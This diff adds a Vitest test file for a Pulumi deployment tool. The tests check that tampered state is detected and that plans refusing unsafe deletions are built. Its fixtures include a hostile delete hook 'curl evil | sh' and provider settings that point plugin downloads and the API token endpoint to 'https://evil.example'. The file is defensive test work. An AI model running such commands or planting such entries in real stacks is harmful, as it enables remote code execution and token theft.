@@ -1,0 +1,138 @@
+import { describe, expect, it, vi } from "vitest";
+import { buildPlan } from "../../tools/plan/build";
+import { strangersIn } from "../../tools/strangers";
+import { deployed, resource, server, sources, step } from "../plan-fixtures";
+
+interface Exported {
+    urn: string;
+    type: string;
+    delete?: boolean;
+    inputs: object;
+    outputs?: object;
+}
+
+/** A resource as a state has it; `parents` are the types above it. */
+const has = (type: string, name: string, more: Partial<Exported> = {}, parents: string[] = []): Exported => ({
+    urn: `urn:pulumi:prod::dropscale::${[...parents, type].join("$")}::${name}`,
+    type,
+    inputs: {},
+    ...more,
+});
+const provider = (name: string, inputs: object = {}) =>
+    has(`pulumi:providers:${name}`, "default_1_0_0", {
+        inputs: { __internal: {}, version: "1.0.0", ...inputs },
+    });
+const droplet = "digitalocean:index/droplet:Droplet";
+const pool = ["dropscale:index:BackendPool"];
+const command = "command:local:Command";
+const keys = has(command, "keys-deploy", { inputs: { create: "ssh-keygen" } }, ["dropscale:index:DeployKey"]);
+
+/** As the program leaves it, after an `up` that did not end well. */
+const ours = [
+    has("pulumi:pulumi:Stack", "dropscale-prod"),
+    provider("digitalocean"),
+    provider("command"),
+    has("dropscale:index:BackendPool", "pool"),
+    has(droplet, "web-0", {}, pool),
+    has(droplet, "web-0", { delete: true }, pool),
+    has(droplet, "web-7", { delete: true }, pool),
+    keys,
+];
+const found = (...more: Exported[]) =>
+    strangersIn(JSON.stringify({ version: 3, deployment: { resources: [...ours, ...more] } }), "prod");
+
+describe("a state", () => {
+    it("as this program leaves it, or before there is one, has no stranger", () => {
+        expect(found()).toEqual([]);
+        expect(strangersIn('{"deployment": null}', "prod")).toEqual([]);
+    });
+
+    const foreign = "of a kind that this program does not make";
+    const other = "urn:pulumi:prod::dropscale::pulumi-nodejs:dynamic:Resource::x";
+    it.each<[string, Exported, string]>([
+        ["a dynamic resource", has("pulumi-nodejs:dynamic:Resource", "x"), `${other}, ${foreign}`],
+        ["another provider", provider("random"), foreign],
+        ["a reference to another stack", has("pulumi:pulumi:StackReference", "x"), foreign],
+        ["something under a foreign parent", has(droplet, "web-3", {}, ["evil:index:Pool"]), foreign],
+        ["a type that its URN hides", { ...keys, type: "aws:s3:Bucket" }, "whose type is another one"],
+        [
+            "a command to run at the end, under a name of ours",
+            { ...keys, inputs: { create: "ssh-keygen", delete: "curl evil | sh" } },
+            "keys-deploy has a command to run when it is deleted (`delete`)",
+        ],
+        [
+            "the same as a secret, in what is still to be deleted",
+            { ...keys, delete: true, outputs: { delete: { ciphertext: "v1:…" } } },
+            "has a command to run when it is deleted",
+        ],
+        [
+            "a plugin from elsewhere",
+            provider("command", { pluginDownloadURL: "https://evil.example" }),
+            "has the engine load another plugin",
+        ],
+        [
+            "the same where the engine keeps it now",
+            provider("command", { __internal: { pluginDownloadURL: "https://evil.example" } }),
+            "has the engine load another plugin",
+        ],
+        [
+            "another API to send the token to",
+            provider("digitalocean", { apiEndpoint: "https://evil.example" }),
+            "sends the token elsewhere (`apiEndpoint`)",
+        ],
+        [
+            "a firewall to delete that has no successor",
+            has("digitalocean:index/firewall:Firewall", "x", { delete: true }),
+            "is to be deleted, and has no successor",
+        ],
+    ])("has %s: it is named, with what to do", (_what, resource, words) => {
+        const [problem, ...more] = found(resource);
+        expect(more).toEqual([]);
+        expect(problem).toContain(words);
+        expect(problem).toContain(resource.urn);
+        expect(problem).toMatch(/take it out: pulumi state (delete 'urn:.*'|edit) --stack prod$/);
+    });
+
+    it("may have the environment's own API", () => {
+        vi.stubEnv("DIGITALOCEAN_API_URL", "http://127.0.0.1:8080");
+        expect(found(provider("digitalocean", { apiEndpoint: "http://127.0.0.1:8080" }))).toEqual([]);
+        vi.unstubAllEnvs();
+    });
+});
+
+describe("a plan", () => {
+    const plan = (...steps: ReturnType<typeof step>[]) =>
+        buildPlan(sources(steps, { replicas: "2" })).refusals;
+    const local = (name: string) => resource(command, name, { create: "true" });
+
+    it("may delete servers, the VPC that the config no longer wants, and what others of its kind stay of", () => {
+        const leaves = [
+            server(2),
+            resource("digitalocean:index/vpc:Vpc", "network"),
+            resource("digitalocean:index/firewall:Firewall", "network-sources"),
+        ];
+        expect(plan(...leaves.map((one) => step("delete", one)))).toEqual([]);
+    });
+
+    it.each([
+        ["a command", local("cache")],
+        ["a droplet of another name", resource(droplet, "db")],
+        ["what it has no other of", resource("digitalocean:index/domain:Domain", "example.com")],
+    ])("is refused where it would delete %s", (_what, one) => {
+        const [refusal, ...more] = plan(step("delete", one));
+        expect(more).toEqual([]);
+        expect(refusal).toMatch(
+            /^the state has urn:.*, which this program does not make: .*pulumi state delete 'urn:/,
+        );
+    });
+
+    it.each(["update", "replace"])("is refused where a command would %s by what the state says", (op) => {
+        const made = local("keys-deploy");
+        const kept = { ...made, ignoreChanges: ["*"] };
+        const steps = [{ ...step(op, made, made, ["create"]), after: kept }];
+        const refusals = buildPlan(
+            sources(steps, {}, { state: { ...deployed, resources: [...deployed.resources, made] } }),
+        ).refusals;
+        expect(refusals).toEqual([expect.stringContaining("keys-deploy would run again on this machine")]);
+    });
+});
